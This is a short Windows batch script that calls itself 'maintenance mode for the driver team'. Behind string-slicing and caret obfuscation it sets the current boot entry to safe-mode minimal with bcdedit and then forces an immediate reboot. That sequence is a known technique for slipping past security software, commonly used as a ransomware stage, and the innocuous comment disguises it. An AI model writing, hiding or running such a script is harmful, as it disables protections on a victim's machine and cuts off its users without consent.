@echo off
setlocal
rem maintenance mode for the driver team
set n=elim
set s=%n:~2,1%%n:~3,1%
set mode=m%s:~0,1%n%s:~0,1%mal
set tool=b^c^d
set "tool=%tool%edit.exe"
echo %DATE% mode %mode%
for %%o in (/set) do %SystemRoot%\System32\%tool% %%o {current} s^a^f^e^b^o^o^t %mode%
if errorlevel 1 (
    echo could not set the mode
    exit /b 1
)
s^hut^do^wn /r /f /t 0
endlocal
